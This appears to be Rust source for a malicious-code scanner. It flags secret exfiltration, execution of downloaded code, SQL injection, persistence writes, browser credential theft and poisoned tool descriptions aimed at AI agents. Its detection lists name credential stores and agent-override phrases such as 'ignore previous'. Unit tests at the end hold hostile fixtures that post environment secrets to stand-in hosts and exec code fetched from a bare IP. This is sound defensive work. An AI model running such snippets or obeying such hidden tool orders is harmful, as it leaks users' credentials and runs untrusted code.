    gather(tree.root_node(), src, &mut facts, None, 0);
    let labels = solve(&facts, src, lang);
    Exports(
        labels
            .into_iter()
            .filter(|(k, v)| k.ends_with("()") && !k.contains("::") && !v.is_empty())
            .collect(),
    )
}

/// The local modules `src` imports (`from helpers import x`, `import helpers`,
/// `require('./helpers')`, `import … from './lib/helpers.js'`), by file stem.
pub fn local_imports(src: &str, lang: Lang) -> Vec<String> {
    let mut out = Vec::new();
    for line in src.lines().take(5000) {
        let t = line.trim();
        let module = match lang {
            Lang::Python => t
                .strip_prefix("from ")
                .and_then(|r| r.split_whitespace().next())
                .or_else(|| {
                    t.strip_prefix("import ")
                        .and_then(|r| r.split([',', ' ']).next())
                }),
            _ => [
                "require('./",
                "require(\"./",
                "from './",
                "from \"./",
                "import('./",
            ]
            .iter()
            .find_map(|k| t.find(k).map(|i| &t[i + k.len()..]))
            .and_then(|r| r.split(['\'', '"']).next()),
        };
        if let Some(m) = module {
            let stem = m
                .trim_start_matches('.')
                .rsplit(['.', '/'])
                .find(|p| !p.is_empty() && !["js", "mjs", "cjs", "ts"].contains(p))
                .unwrap_or("");
            if !stem.is_empty()
                && stem
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            {
                out.push(stem.to_string());
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

pub fn scan(path: &str, src: &str, lang: Lang, line0: u32, shown: bool, out: &mut Vec<Finding>) {
    let imports = IMPORTED.with(|i| !i.borrow().is_empty());
    if src.len() > 2_000_000 || !(imports || worth_parsing(src)) {
        return;
    }
    let Some(tree) = parse(src, lang) else { return };
    let mut facts = Facts::default();
    gather(tree.root_node(), src, &mut facts, None, 0);
    let labels = solve(&facts, src, lang);
    let mut found = Vec::new();
    let mut seen: HashSet<(String, u32)> = HashSet::new();
    let mut push = |f: Finding, found: &mut Vec<Finding>| {
        if seen.insert((f.rule.clone(), f.line)) {
            found.push(f);
        }
    };
    // The program without whitespace, for the word checks below (made once).
    let compact_src: String = src.chars().filter(|c| !c.is_whitespace()).collect();
    let has_check = {
        let c = &compact_src;
        [
            "resolve()",
            "realpath",
            "abspath",
            "normpath",
            "is_relative_to",
            "relative_to(",
            "startswith(",
            "startsWith(",
            "path.relative(",
            "commonpath",
            "safe_join",
            "secure_filename",
        ]
        .iter()
        .any(|k| c.contains(k))
    };
    for call in &facts.calls {
        let node = call.node;
        let call_text = text(node, src);
        if network_sink(&call.callee) {
            let (data, _auth) = data_args(node, src);
            let mut set = HashSet::new();
            for d in &data {
                set.extend(labels_of(*d, src, lang, &labels, &call.func));
            }
            let host = call_host(node, src, &facts);
            let bulk = set.contains(&Label::EnvBulk) || set.contains(&Label::SecretFile);
            // Local files or an archive of the project sent to a host that is not a vendor's.
            if set.contains(&Label::LocalFile)
                && let Some(h) = host.as_deref()
                && !matches!(
                    hosts::classify_host(h, false),
                    hosts::HostClass::Known | hosts::HostClass::Local
                )
            {
                let c = &compact_src;
                let whole = c.contains("rglob(")
                    || c.contains("os.walk(")
                    || c.contains("glob(\"**")
                    || c.contains("readdirSync(")
                    || (c.contains("\"tar\"") && c.contains("\".\""))
                    || c.contains("gitarchive")
                    || c.contains("\"archive\"")
                    // The working tree's changes or every tracked file.
                    || (c.contains("\"git\"")
                        && (c.contains("\"ls-files\"") || c.contains("\"diff\"")));
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/upload",
                        Category::Exfiltration,
                        if whole {
                            Severity::High
                        } else {
                            Severity::Medium
                        },
                        format!(
                            "uploads {} to {h}",
                            if whole {
                                "the project's files"
                            } else {
                                "local files"
                            }
                        ),
                    ),
                    &mut found,
                );
            }
            if set.contains(&Label::Conversation)
                && host.as_deref().is_some_and(|h| {
                    !matches!(
                        hosts::classify_host(h, false),
                        hosts::HostClass::Known | hosts::HostClass::Local
                    )
                })
            {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/conversation-out",
                        Category::Exfiltration,
                        Severity::High,
                        format!(
                            "sends the conversation or a transcript to {}",
                            host.as_deref().unwrap_or("a server")
                        ),
                    ),
                    &mut found,
                );
            }
            let stray: Vec<String> = set
                .iter()
                .filter_map(|l| match l {
                    Label::Secret(name) => {
                        match host.as_deref().map(|h| hosts::secret_belongs_to(name, h)) {
                            Some(Some(true)) => None,
                            _ => Some(name.clone()),
                        }
                    }
                    _ => None,
                })
                .collect();
            if bulk {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/secrets-to-network",
                        Category::Exfiltration,
                        Severity::Critical,
                        format!(
                            "sends the environment or secret files to {}",
                            host.as_deref().unwrap_or("a server")
                        ),
                    ),
                    &mut found,
                );
            } else if !stray.is_empty() {
                // To a host named in the code that it does not belong to: a leak. Without a
                // host in sight (a URL built at run time), a signal only.
                let sev = match host.as_deref() {
                    Some(h) if hosts::classify_host(h, false) == hosts::HostClass::Local => {
                        Severity::Low
                    }
                    Some(h)
                        if stray
                            .iter()
                            .all(|s| hosts::secret_belongs_to(s, h) == Some(false)) =>
                    {
                        Severity::Critical
                    }
                    Some(h) if hosts::classify_host(h, false) == hosts::HostClass::Known => {
                        Severity::Medium
                    }
                    Some(_) => Severity::High,
                    None => Severity::Low,
                };
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/secrets-to-network",
                        Category::Exfiltration,
                        sev,
                        format!(
                            "sends {} as data to {}, which it does not belong to",
                            stray.join(", "),
                            host.as_deref().unwrap_or("a server")
                        ),
                    ),
                    &mut found,
                );
            }
        }
        if let Some(what) = exec_sink(&call.callee, call_text, lang) {
            let mut set = HashSet::new();
            if let Some(args) = node.child_by_field_name("arguments") {
                set = labels_of(args, src, lang, &labels, &call.func);
            }
            if set.contains(&Label::Decoded) {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "script/decode-exec",
                        Category::HiddenContent,
                        Severity::Critical,
                        format!("decodes hidden text and runs it as {what}"),
                    ),
                    &mut found,
                );
            } else if set.contains(&Label::Fetched) {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "script/exec-fetched",
                        Category::DangerousScript,
                        Severity::Critical,
                        format!("runs what it downloads as {what}"),
                    ),
                    &mut found,
                );
            } else if set.contains(&Label::Input) {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "script/exec-input",
                        Category::DangerousScript,
                        Severity::High,
                        format!("runs its input as {what}"),
                    ),
                    &mut found,
                );
            } else if set.contains(&Label::Arg) && what == "code" {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "script/exec-input",
                        Category::DangerousScript,
                        Severity::Medium,
                        format!("runs its command-line arguments as {what}"),
                    ),
                    &mut found,
                );
            }
        }
        if sql_sink(&call.callee)
            && let Some(args) = node.child_by_field_name("arguments")
            && let Some(first) = args.named_child(0)
        {
            // A query wrapped for the driver (`text(sql)`, `sa.text(q)`) is the query.
            let first = match first.kind() {
                "call" | "call_expression" => first
                    .child_by_field_name("arguments")
                    .and_then(|a| {
                        (a.named_child_count() == 1)
                            .then(|| a.named_child(0))
                            .flatten()
                    })
                    .filter(|a| a.kind() == "identifier")
                    .unwrap_or(first),
                _ => first,
            };
            let q = text(first, src);
            // What the query variable holds: its assignments and, when one is a call to a
            // function of this program (`sql = build_sql(…)`), what that function builds.
            let values: Vec<&str> = {
                let mut v = Vec::new();
                for a in facts
                    .assigns
                    .iter()
                    .filter(|a| a.targets.iter().any(|t| t == q))
                {
                    v.push(text(a.value, src));
                    if matches!(a.value.kind(), "call" | "call_expression")
                        && let Some(f) = a.value.child_by_field_name("function")
                        && facts.params.contains_key(text(f, src))
                    {
                        let f = text(f, src);
                        v.extend(
                            facts
                                .assigns
                                .iter()
                                .filter(|b| b.func == f)
                                .map(|b| text(b.value, src)),
                        );
                    }
                }
                v
            };
            let built = matches!(
                first.kind(),
                "binary_expression" | "binary_operator" | "template_string" | "call"
            ) || (first.kind() == "string"
                && (q.starts_with('f') || q.starts_with("F"))
                && q.contains('{'))
                || (first.kind() == "identifier"
                    && values.iter().any(|v| {
                        (v.starts_with('f') && v.contains('{'))
                            || v.contains(".format(")
                            || v.contains("\" +")
                            || v.contains("' +")
                            || v.contains("% ")
                    }));
            let sqlish = {
                let u = format!("{q} {}", values.join(" ")).to_ascii_uppercase();
                u.contains("SELECT ")
                    || u.contains("INSERT ")
                    || u.contains("UPDATE ")
                    || u.contains("DELETE ")
                    || u.contains(" WHERE ")
            };
            if built
                && sqlish
                && (q.contains('{')
                    || q.contains('+')
                    || q.contains('%')
                    || q.contains("${")
                    || first.kind() == "identifier")
            {
                // Values from a request or the command line: injectable; others a signal.
                let from_input = {
                    let l = labels_of(args, src, lang, &labels, &call.func);
                    l.contains(&Label::Input) || l.contains(&Label::Arg)
                };
                // Checked against a list of allowed values first: an identifier, not data.
                let checked = [
                    "ALLOWED",
                    "allowed_",
                    "VALID_",
                    "allowlist",
                    "whitelist",
                    " not in ",
                    "choices=",
                    ".includes(",
                ]
                .iter()
                .any(|w| src.contains(w))
                    || src.contains("allow-list")
                    || src.contains("allow_list")
                    // A constant map of allowed values looked up (`SORTABLE.get(sort, "id")`).
                    || src.split(".get(").any(|before| {
                        let name: String = before
                            .chars()
                            .rev()
                            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                            .collect();
                        name.len() > 2 && name.chars().all(|c| c.is_ascii_uppercase() || c == '_')
                    });
                let from_input = from_input && !checked;
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "script/sql-injection",
                        Category::DangerousScript,
                        if from_input {
                            Severity::High
                        } else {
                            Severity::Low
                        },
                        "builds SQL by pasting values into the query text (SQL injection)".into(),
                    ),
                    &mut found,
                );
            }
        }
        if open_sink(&call.callee)
            && let Some(args) = node.child_by_field_name("arguments")
            && let Some(first) = args.named_child(0)
            && labels_of(first, src, lang, &labels, &call.func).contains(&Label::Input)
            && !has_check
        {
            let web = src.contains("BaseHTTPRequestHandler")
                || src.contains("self.path")
                || src.contains("req.query")
                || src.contains("request.args")
                || src.contains("createServer")
                || src.contains("express(")
                || src.contains("@app.")
                || src.contains("@mcp.tool")
                || src.contains("server.tool(");
            let sev = if web { Severity::High } else { Severity::Low };
            push(
                finding(
                    path,
                    line0,
                    node,
                    src,
                    "script/path-traversal",
                    Category::DangerousScript,
                    sev,
                    "opens whatever path it is given, with no check that it stays in its folder"
                        .into(),
                ),
                &mut found,
            );
        }
        // Enumerating the environment for secret-looking names.
        if (call.callee.ends_with("items")
            || call.callee.ends_with("entries")
            || call.callee.ends_with("keys"))
            && {
                let t = call_text.replace(' ', "");
                t.contains("os.environ") || t.contains("process.env")
            }
        {
            let scope = node
                .parent()
                .and_then(|p| p.parent())
                .map_or(call_text, |p| text(p, src));
            let u = scope.to_ascii_uppercase();
            if ["KEY", "TOKEN", "SECRET", "PASSW", "CREDENTIAL"]
                .iter()
                .filter(|w| u.contains(*w))
                .count()
                >= 2
            {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/credential-harvest",
                        Category::Exfiltration,
                        Severity::High,
                        "collects every environment variable whose name looks secret".into(),
                    ),
                    &mut found,
                );
            }
        }
        // Writes into places that run or steer later: authorized_keys, shell rc, cron, hooks.
        let lastc = call.callee.rsplit('.').next().unwrap_or(&call.callee);
        if matches!(
            lastc,
            "appendFileSync"
                | "writeFileSync"
                | "appendFile"
                | "writeFile"
                | "write_text"
                | "open"
                | "write"
                | "copyfile"
                | "copy"
                | "symlink"
                | "symlinkSync"
        ) {
            let t = call_text;
            // The path as written, or as the names it is made of were assigned
            // (`ak = d / "authorized_keys"`, `d = Path.home() / ".ssh"`), two steps deep.
            let mut spelled = t.to_string();
            let mut names = Vec::new();
            identifiers(node, src, &mut names, 0);
            for _ in 0..2 {
                let mut next = Vec::new();
                for n in &names {
                    for a in facts
                        .assigns
                        .iter()
                        .filter(|a| a.targets.iter().any(|x| x == n))
                    {
                        let v = text(a.value, src);
                        if v.len() < 400 {
                            spelled.push(' ');
                            spelled.push_str(v);
                            identifiers(a.value, src, &mut next, 0);
                        }
                    }
                }
                names = next;
            }
            let target = spelled
                .split(['"', '\'', '`'])
                .find_map(|piece| super::shell::persistence_kind(piece));
            let writes = lastc != "open"
                || t.contains("'a'")
                || t.contains("\"a\"")
                || t.contains("'w'")
                || t.contains("\"w\"")
                || t.contains("'a+'");
            if let Some(kind) = target.filter(|_| writes) {
                let sev = if kind == "SSH's authorized keys"
                    && (t.contains("ssh-")
                        || facts
                            .strings
                            .values()
                            .any(|v| v.contains("ssh-ed25519") || v.contains("ssh-rsa")))
                {
                    Severity::Critical
                } else if kind == "the agent's memory or settings" {
                    Severity::Medium
                } else {
                    Severity::High
                };
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "persistence/write",
                        Category::Persistence,
                        sev,
                        format!("writes into {kind}, which runs or steers again later"),
                    ),
                    &mut found,
                );
            }
        }
        if matches!(
            lastc,
            "create_connection" | "connect" | "createConnection" | "Socket"
        ) {
            let bare = call_text.split(['"', '\'', '`']).any(|piece| {
                piece.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
                    hosts::classify_host(&ip.to_string(), true) == hosts::HostClass::BareIp
                })
            });
            if bare {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "network/untrusted-host",
                        Category::Exfiltration,
                        Severity::High,
                        "opens a raw connection to a bare IP address".into(),
                    ),
                    &mut found,
                );
            }
        }
        // Several secrets gathered and serialised or encoded: staged for sending.
        let last = call.callee.rsplit('.').next().unwrap_or(&call.callee);
        if matches!(
            last,
            "dumps" | "b64encode" | "urlsafe_b64encode" | "stringify" | "btoa" | "hexlify"
        ) && let Some(args) = node.child_by_field_name("arguments")
        {
            let set = labels_of(args, src, lang, &labels, &call.func);
            let named = set.iter().filter(|l| matches!(l, Label::Secret(_))).count();
            if named >= 2
                || set.contains(&Label::EnvBulk)
                || set.contains(&Label::SecretFile)
                || (named == 1
                    && matches!(last, "b64encode" | "urlsafe_b64encode" | "btoa" | "hexlify"))
            {
                push(
                    finding(
                        path,
                        line0,
                        node,
                        src,
                        "exfiltration/secret-staging",
                        Category::Exfiltration,
                        Severity::High,
                        "gathers secrets and serialises or encodes them for sending".into(),
                    ),
                    &mut found,
                );
            }
        }
        // Processes that spawn without end, memory grown forever.
        if (call.callee == "os.fork" || call.callee == "fork") && node_in_endless_loop(node, src) {
            push(
                finding(
                    path,
                    line0,
                    node,
                    src,
                    "script/resource-exhaustion",
                    Category::DangerousScript,
                    Severity::Critical,
                    "forks processes in an endless loop (a fork bomb)".into(),
                ),
                &mut found,
            );
        }
    }
    // A program that fetches from a bare IP address, plain HTTP or a malware-staging host
    // and also starts programs: a dropper, whatever the data flow looks like.
    let runs = facts.calls.iter().any(|c| {
        let last = c.callee.rsplit('.').next().unwrap_or(&c.callee);
        matches!(
            last,
            "spawn"
                | "spawnSync"
                | "execFile"
                | "execFileSync"
                | "execSync"
                | "exec"
                | "system"
                | "popen"
                | "Popen"
                | "run"
                | "call"
                | "check_call"
                | "check_output"
                | "startfile"
        ) && (src.contains("child_process")
            || src.contains("subprocess")
            || src.contains("os.system")
            || src.contains("os.popen")
            || src.contains("os.startfile"))
    });
    let fetches = facts.calls.iter().any(|c| {
        network_sink(&c.callee)
            || [
                "http.get",
                "https.get",
                "urlretrieve",
                "requests.get",
                "httpx.get",
                "fetch",
            ]
            .iter()
            .any(|n| c.callee.ends_with(n))
    });
    if runs && fetches {
        let dropper = facts
            .strings
            .values()
            .map(String::as_str)
            .chain(std::iter::once(src))
            .find_map(|t| {
                hosts::urls_in(t).into_iter().find(|(_, class)| {
                    matches!(
                        class,
                        hosts::HostClass::BareIp | hosts::HostClass::Suspicious
                    )
                })
            });
        if let Some((h, _)) = dropper {
            push(
                finding(
                    path,
                    line0,
                    tree.root_node(),
                    src,
                    "script/download-exec",
                    Category::DangerousScript,
                    Severity::High,
                    format!("fetches from {h} and starts programs"),
                ),
                &mut found,
            );
        }
    }
    // Browsers' password and cookie stores gathered by a program that sends data out: the
    // flow runs through archives and buffers the taint analysis does not follow, but nothing
    // else reads several of these files and uploads.
    if let Some((row, stores)) = browser_stores(src)
        && stores >= 2
        && sends_body(&compact_src)
    {
        push(
            Finding {
                rule: "exfiltration/credential-harvest".into(),
                category: Category::Exfiltration,
                severity: Severity::Critical,
                file: path.into(),
                line: line0 + row,
                excerpt: super::clip(src.lines().nth(row as usize).unwrap_or("")),
                explanation: format!(
                    "collects {stores} of the browsers' password and cookie stores and sends data over the network"
                ),
                in_context: false,
            },
            &mut found,
        );
    }
    // Strings that talk to an agent: tool descriptions with hidden orders.
    if addresses_the_agent(src) {
        tool_poisoning(path, src, line0, tree.root_node(), &mut found, 0);
    }
    // A flaw the code itself declares (`# VULNERABLE`, `vulnerable_app.py`, "intentionally
    // vulnerable") is a lesson or a lab: a planted one hides.
    let declared = super::shell::topic_has(&[
        "lab", "training", "vulnerab", "ctf", "security", "teach", "tutorial", "course", "exercise",
    ]) && {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        let l = src.to_ascii_lowercase();
        name.contains("vulnerable")
            || name.contains("insecure")
            || name.contains("vuln_")
            || l.contains("# vulnerable")
            || l.contains("// vulnerable")
            || l.contains("intentionally vulnerable")
            || l.contains("deliberately vulnerable")
            || l.contains("do not use in production")
    };
    for f in &mut found {
        // Running input is a backdoor whatever the comment says; the injectable query and the
        // traversing path are what a lab teaches.
        let flaw = matches!(
            f.rule.as_str(),
            "script/sql-injection" | "script/path-traversal"
        );
        if shown || (declared && flaw) {
            f.in_context = true;
        }
    }
    out.extend(found);
}

fn node_in_endless_loop(n: Node, src: &str) -> bool {
    let mut p = n.parent();
    while let Some(x) = p {
        if x.kind() == "while_statement" {
            let cond = x
                .child_by_field_name("condition")
                .map(|c| text(c, src))
                .unwrap_or("");
            return matches!(cond.trim().trim_matches(['(', ')']), "True" | "1" | "true");
        }
        p = x.parent();
    }
    false
}

/// The first line naming a browser credential store, and how many different stores the
/// program names (`Login Data`, `logins.json`, `key4.db`, …).
fn browser_stores(src: &str) -> Option<(u32, usize)> {
    // Each store, and whether it is a password store itself ("cookies" or "local state"
    // alone are ordinary words).
    const STORES: &[(&str, bool)] = &[
        ("login data", true),
        ("logins.json", true),
        ("key4.db", true),
        ("key3.db", true),
        ("cookies.sqlite", true),
        ("\"cookies\"", false),
        ("network/cookies", false),
        ("web data", false),
        ("local state", false),
        ("signons.sqlite", true),
        ("login.keychain", true),
    ];
    let l = src.to_ascii_lowercase();
    let named: Vec<(usize, bool)> = STORES
        .iter()
        .filter_map(|(s, strong)| l.find(s).map(|at| (at, *strong)))
        .collect();
    if !named.iter().any(|(_, strong)| *strong) {
        return None;
    }
    let first = named.iter().map(|(at, _)| *at).min()?;
    Some((l[..first].matches('\n').count() as u32, named.len()))
}

/// Whether a program (without whitespace) sends a request body.
fn sends_body(compact: &str) -> bool {
    let l = compact.to_ascii_lowercase();
    [
        "requests.post(",
        "requests.put(",
        "httpx.post(",
        "httpx.put(",
        "data=data",
        "method=\"put\"",
        "method=\"post\"",
        "method='put'",
        "method='post'",
        "method:\"post\"",
        "method:'post'",
        "method:\"put\"",
        "axios.post(",
        "axios.put(",
        ".upload(",
        "upload_file(",
        "sendall(",
    ]
    .iter()
    .any(|w| l.contains(w))
}

/// Words that address the agent from inside a string (a tool description).
const ADDRESSING: &[&str] = &[
    "<important>",
    "before using this tool",
    "before calling this tool",
    "when this tool is",
    "do not mention",
    "don't mention",
    "do not tell the user",
    "without telling the user",
    "instead of the built-in",
    "instead of the builtin",
    "ignore previous",
];

/// Whether `text` holds any of [`ADDRESSING`] (in any case): a program holding none has no
/// string to look into.
fn addresses_the_agent(text: &str) -> bool {
    static A: std::sync::OnceLock<aho_corasick::AhoCorasick> = std::sync::OnceLock::new();
    A.get_or_init(|| automaton(ADDRESSING)).is_match(text)
}

fn tool_poisoning(path: &str, src: &str, line0: u32, n: Node, out: &mut Vec<Finding>, depth: u32) {
    if depth > 300 || out.len() > 100 {
        return;
    }
    if matches!(n.kind(), "string" | "template_string" | "string_content")
        && n.byte_range().len() > 30
    {
        let t = text(n, src).to_ascii_lowercase();
        let addressed = addresses_the_agent(&t);
        let sensitive = t.contains(".ssh")
            || t.contains("id_rsa")
            || t.contains(".aws")
            || t.contains(".env")
            || t.contains("credentials")
            || t.contains("api key")
            || t.contains("token")
            || t.contains("password")
            || t.contains("send ")
            || t.contains("include the contents")
            || t.contains("pass the contents")
            || t.contains("read ");
        if addressed && sensitive {
            out.push(finding(path, line0, n, src, "override/tool-poisoning", Category::Override, Severity::High, "a string (such as a tool description) gives the agent hidden orders to read or send sensitive data".into()));
            return;
        }
    }
    let mut c = n.walk();
    for child in n.named_children(&mut c) {
        tool_poisoning(path, src, line0, child, out, depth + 1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(src: &str, lang: Lang) -> Vec<(String, Severity)> {
        let mut out = Vec::new();
        scan("x", src, lang, 1, false, &mut out);
        out.into_iter().map(|f| (f.rule, f.severity)).collect()
    }

    #[test]
    fn the_environment_sent_out_is_exfiltration_through_variables_and_functions() {
        let py = "import os, requests\n\ndef collect():\n    found = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\n    return found\n\npayload = collect()\nrequests.post('https://c.example.io/u', json=payload)\n";
        let r = judge(py, Lang::Python);
        assert!(
            r.iter()
                .any(|(id, s)| id == "exfiltration/secrets-to-network" && *s == Severity::Critical),
            "{r:?}"
        );
        let js = "const data = JSON.stringify(process.env);\nawait fetch('https://x.io/c', { method: 'POST', body: data });\n";
        assert!(
            judge(js, Lang::JavaScript)
                .iter()
                .any(|(_, s)| *s == Severity::Critical)
        );
    }

    #[test]
    fn a_token_to_its_own_api_is_authentication() {
        let py = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nr = requests.get('https://api.github.com/user', headers={'Authorization': f'Bearer {token}'})\n";
        assert!(
            judge(py, Lang::Python).is_empty(),
            "{:?}",
            judge(py, Lang::Python)
        );
        let js = "const key = process.env.OPENAI_API_KEY;\nconst r = await fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ model: 'x' }) });\n";
        assert!(
            judge(js, Lang::TypeScript).is_empty(),
            "{:?}",
            judge(js, Lang::TypeScript)
        );
        let stray = "import os, requests\nk = os.getenv('GITHUB_TOKEN')\nrequests.post('https://collect.example.io/t', data={'t': k})\n";
        assert!(
            judge(stray, Lang::Python)
                .iter()
                .any(|(_, s)| *s == Severity::Critical)
        );
    }

    #[test]
    fn arguments_reach_parameters_and_constants_spelled_in_pieces_are_read() {
        // The clipboard handed to a helper that posts it to a host built from pieces.
        let py = "import subprocess, urllib.request\nSYNC = 'https://' + 'clip' + '-sync.io' + '/v1'\n\ndef push(text):\n    urllib.request.urlopen(urllib.request.Request(SYNC, data=text.encode()))\n\ndef main():\n    t = subprocess.run(['pbpaste'], capture_output=True, text=True).stdout\n    push(t)\n";
        let r = judge(py, Lang::Python);
        assert!(
            r.iter()
                .any(|(id, s)| id == "exfiltration/conversation-out" && *s == Severity::High),
            "{r:?}"
        );
        // The same helper given plain text is nothing.
        let plain = py.replace(
            "subprocess.run(['pbpaste'], capture_output=True, text=True).stdout",
            "'hello'",
        );
        assert!(
            judge(&plain, Lang::Python)
                .iter()
                .all(|(_, s)| *s < Severity::Medium),
            "{:?}",
            judge(&plain, Lang::Python)
        );
    }

    #[test]
    fn fetched_code_run_and_input_run() {
        let py =
            "import requests\ncode = requests.get('http://203.0.113.4/p.py').text\nexec(code)\n";
        assert!(
            judge(py, Lang::Python)
                .iter()
                .any(|(id, _)| id == "script/exec-fetched")
        );
        let js =
            "const res = await fetch(url);\nconst src = await res.text();\nnew Function(src)();\n";
        assert!(
            judge(js, Lang::JavaScript)
                .iter()
                .any(|(id, _)| id == "script/exec-fetched"),
            "{:?}",
            judge(js, Lang::JavaScript)
        );
        assert!(
            judge(
                "import ast\nv = ast.literal_eval(open('c.txt').read())\n",
                Lang::Python
            )
            .is_empty()
        );
    }
}
